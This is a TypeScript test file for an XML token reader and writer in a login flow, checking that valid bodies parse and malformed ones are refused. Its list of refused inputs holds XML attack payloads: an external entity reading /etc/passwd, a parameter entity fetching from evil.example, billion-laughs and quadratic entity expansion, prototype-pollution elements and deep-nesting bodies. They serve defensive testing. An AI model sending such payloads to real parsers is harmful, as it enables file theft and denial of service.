import * as fc from 'fast-check';
import { expect, test } from 'playwright/test';
import { LoginError } from '../../../main/login/provider.ts';
import { readXml, writeXml } from '../../../main/login/xml.ts';
import { reached, shows } from '../../faults/reached.ts';
import { failureOf } from './failure-of.ts';

const malformed = { kind: 'unexpected-reply', detail: 'malformed', status: 200 };

async function tokenOf(body: string): Promise<string | undefined> {
  const read = await readXml({ body, status: 200 }, 'authorization');
  return read('token');
}

const inToken = (content: string) => `<authorization><token>${content}</token></authorization>`;

const readable: readonly (readonly [string, string, string | undefined])[] = [
  ['a plain document', inToken('abc'), 'abc'],
  ['a declaration', `<?xml version="1.0" encoding="utf-8"?>\n${inToken('abc')}\n`, 'abc'],
  ['white space around', inToken('\n  abc\n'), 'abc'],
  ['xml:space', '<authorization xml:space="preserve"><token> abc </token></authorization>', 'abc'],
  ['comments', `<!-- a -->${inToken('ab<!-- b -->c')}<!-- c -->`, 'abc'],
  ['CDATA', inToken('<![CDATA[a&amp;b<]]>'), 'a&amp;b<'],
  ['CDATA on a line of its own', inToken('\n<![CDATA[abc]]>\n'), 'abc'],
  ['all named entities', inToken('&amp;&lt;&gt;&quot;&apos;'), `&<>"'`],
  ['numeric entities', inToken('&#65;&#x42;&#x1F511;'), 'AB🔑'],
  ['an entity that looks like another', inToken('&amp;lt;&amp;#65;'), '&lt;&#65;'],
  ['a default namespace', '<authorization xmlns="urn:x"><token>abc</token></authorization>', 'abc'],
  ['a prefix', '<x:authorization xmlns:x="urn:x"><x:token>abc</x:token></x:authorization>', 'abc'],
  ['an empty element', '<authorization><token/></authorization>', ''],
  ['no such element', '<authorization><realm>x</realm></authorization>', undefined],
  ['no element', '<authorization/>', undefined],
  ['a number', inToken('0012345678901234567890'), '0012345678901234567890'],
  ['a number with an exponent', inToken('1e10'), '1e10'],
  ['a hexadecimal number', inToken('0x1F'), '0x1F'],
  ['a truth value', inToken('true'), 'true'],
  ['many elements', inToken('a').replace('<token>', `${'<a/>'.repeat(996)}<token>`), 'a'],
];

test('reads what XML allows', shows('X5', 'X6', 'X7', 'X11'), async () => {
  for (const [name, body, token] of readable) expect.soft(await tokenOf(body), name).toBe(token);
});

/** More than a body may have, in case that a parser is ever given it. */
const huge: Readonly<Record<string, string>> = {
  '200,000 attributes': `<authorization ${Array.from({ length: 200_000 }, (_unused, at) => `a${at}=""`).join(' ')}><token>abc</token></authorization>`,
  'a comment of 10 MB': `<!--${'a'.repeat(10_000_000)}-->${inToken('abc')}`,
};

test('reads past what is huge', shows('X3'), async () => {
  for (const [name, body] of Object.entries(huge))
    expect.soft(await tokenOf(body), name).toBe('abc');
});

const unreadable: Readonly<Record<string, string>> = {
  nothing: '',
  'white space': ' \n',
  text: 'hello',
  HTML: '<!DOCTYPE html><html><body>Log in<br></body></html>',
  JSON: '{"token":"abc"}',
  'another root': '<error><token>abc</token></error>',
  'two roots': `${inToken('abc')}<b/>`,
  'the root twice': inToken('abc').repeat(2),
  'text after the end': `${inToken('abc')}tail`,
  'mismatched tags': '<authorization><token>abc</authorization></token>',
  'an unclosed tag': '<authorization><token>abc</token>',
  'an unclosed comment': `${inToken('abc')}<!-- `,
  'an unclosed CDATA': '<authorization><token><![CDATA[abc</token></authorization>',
  'the token twice': '<authorization><token>a</token><token>b</token></authorization>',
  'the token twice, once with a prefix':
    '<authorization xmlns:x="urn:x"><token>a</token><x:token>b</x:token></authorization>',
  'an element in the token': inToken('<b>abc</b>'),
  'text beside CDATA': inToken('a<![CDATA[b]]>'),
  'CDATA twice': inToken('<![CDATA[a]]><![CDATA[b]]>'),
  'a document type': `<!DOCTYPE authorization>${inToken('abc')}`,
  'an external entity': `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inToken('&x;')}`,
  'a billion laughs': `<!doctype a [<!ENTITY a "a"><!ENTITY b "&a;&a;">]>${inToken('&b;')}`,
  'a quadratic blow-up': `<!DOCTYPE a [<!ENTITY a "${'a'.repeat(50_000)}">]>${inToken('&a;'.repeat(50_000))}`,
  'a parameter entity': `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>${inToken('a')}`,
  'a document type twice': `<!DOCTYPE a><!DOCTYPE a>${inToken('abc')}`,
  'an entity outside a document type': `${inToken('abc')}<!ENTITY x "y">`,
  'an unknown entity': inToken('&nbsp;'),
  'an entity of the language': inToken('&constructor;'),
  'a bare ampersand': inToken('a&b'),
  'a reference to NUL': inToken('&#0;'),
  'a reference to a surrogate': inToken('&#xD800;'),
  'a reference beyond Unicode': inToken('&#x110000;'),
  'a reference without a number': inToken('&#;'),
  NUL: inToken('a\0b'),
  'a control character': inToken('a\u0008b'),
  'a lone surrogate': inToken('a\uD800b'),
  'a polluting element': '<authorization><__proto__><x>1</x></__proto__></authorization>',
  'a constructor element': '<authorization><constructor>1</constructor></authorization>',
  'a depth above twenty': inToken(`a${'<a>'.repeat(21)}${'</a>'.repeat(21)}`),
  'great depth': `<authorization>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</authorization>`,
  'great depth without an end': `<authorization>${'<a>'.repeat(100_000)}`,
  'an attribute without an end': `<authorization a="${'a'.repeat(200_000)}`,
  'an attribute twice': '<authorization a="1" a="2"><token>abc</token></authorization>',
  'an attribute without a value': '<authorization a><token>abc</token></authorization>',
  'only brackets': '<'.repeat(100_000),
  'a thousand tags': inToken('a').replace('<token>', `${'<a/>'.repeat(998)}<token>`),
};

test('refuses everything else', shows('X1', 'X3', 'X4', 'X6', 'X7', 'X8', 'X9'), async () => {
  for (const [name, body] of Object.entries(unreadable)) {
    expect.soft(await failureOf(() => tokenOf(body)), name).toEqual(malformed);
  }
  expect(Object.keys(Object.prototype)).toEqual([]);
});

test('finds nothing of the language itself', shows('X9'), async () => {
  const read = await readXml({ body: inToken('abc'), status: 200 }, 'authorization');
  for (const name of ['constructor', 'toString', '__proto__']) expect(read(name)).toBeUndefined();
});

test('refuses a document that was cut off, wherever', shows('X4'), async () => {
  const whole = `<?xml version="1.0" encoding="utf-8"?><authorization><realm>leaf</realm><token>abc</token></authorization>`;
  for (let length = 0; length < whole.length; length += 1) {
    expect(await failureOf(() => tokenOf(whole.slice(0, length)))).toEqual(malformed);
  }
});

/** Each with how many of what it is made of fit in the limit. */
const worst: Readonly<Record<string, readonly [number, (count: number) => string]>> = {
  references: [52_000, (count) => inToken('&#65;'.repeat(count))],
  'elements beside the token': [
    65_000,
    (count) => `<authorization>${'<a/>'.repeat(count)}<token>a</token></authorization>`,
  ],
  'elements around a text': [32_000, (count) => inToken('<a>b</a>'.repeat(count))],
  attributes: [
    24_000,
    (count) =>
      `<authorization ${Array.from({ length: count }, (_unused, at) => `a${at}=""`).join(' ')}/>`,
  ],
  comments: [37_000, (count) => inToken('<!---->'.repeat(count))],
  instructions: [52_000, (count) => inToken('<?a?>'.repeat(count))],
  'white space': [260_000, (count) => inToken(' '.repeat(count))],
  'brackets that open nothing': [260_000, (count) => '<'.repeat(count)],
  'brackets that close nothing': [260_000, (count) => inToken('>'.repeat(count))],
  'CDATA without an end': [29_000, (count) => inToken('<![CDATA['.repeat(count))],
  ampersands: [260_000, (count) => inToken('&'.repeat(count))],
};

/** The quickest of a few: what else the machine does only adds to it. */
async function readingMs(body: string): Promise<number> {
  let quickest = Number.POSITIVE_INFINITY;
  for (let count = 0; count < 5; count += 1) {
    const started = performance.now();
    await tokenOf(body).catch((error: unknown) => expect.soft(error).toBeInstanceOf(LoginError));
    quickest = Math.min(quickest, performance.now() - started);
  }
  return quickest;
}

test('reads the worst of documents that fit in the limit in a moment', shows('X2'), async () => {
  let longestMs = 0;
  for (const [name, [most, bodyOf]] of Object.entries(worst)) {
    const body = bodyOf(most);
    expect.soft(body.length, name).toBeLessThan(262_144);
    const partMs = await readingMs(bodyOf(Math.floor(most / 16)));
    const wholeMs = await readingMs(body);
    // Sixteen times as long where each character is read once, 256 times where all are for each.
    expect.soft(wholeMs / partMs, name).toBeLessThan(64);
    longestMs = Math.max(longestMs, wholeMs);
  }
  reached('X2', { documents: Object.keys(worst).length, 'ms at most': Math.ceil(longestMs) });
});

test('writes what the schema of leaf.eco shows', () => {
  expect(writeXml('authenticate', [{ name: 'type', text: 'token' }])).toBe(
    '<?xml version="1.0" encoding="utf-8"?>\n<authenticate>\n<type>token</type>\n</authenticate>',
  );
});

test('what is written can be read back, whatever a password holds', async () => {
  const { XMLParser } = await import('fast-xml-parser');
  const other = new XMLParser({ parseTagValue: false, trimValues: false, htmlEntities: true });
  const text = fc.string({ unit: 'grapheme' }).filter((value) => !/\p{Cc}|\p{Cs}/u.test(value));
  const property = fc.asyncProperty(text, async (inner) => {
    const password = `[${inner}<>&"'\t\r\n]]>`;
    const body = writeXml('authorization', [{ name: 'token', text: password }]);
    expect(await tokenOf(body)).toBe(password);
    expect(other.parse(body)).toMatchObject({ authorization: { token: password } });
  });
  await fc.assert(property, { numRuns: 300 });
});

test('says which field XML cannot carry', async () => {
  for (const text of ['\0', '\u0001', '\u001F', '\uFFFE', '\uFFFF', '\uD800', 'a\uDC00b']) {
    const run = () => writeXml('authenticate', [{ name: 'password', text }]);
    const failure = await failureOf(run);
    expect.soft(failure, text).toEqual({ kind: 'invalid-input', field: 'password' });
  }
});
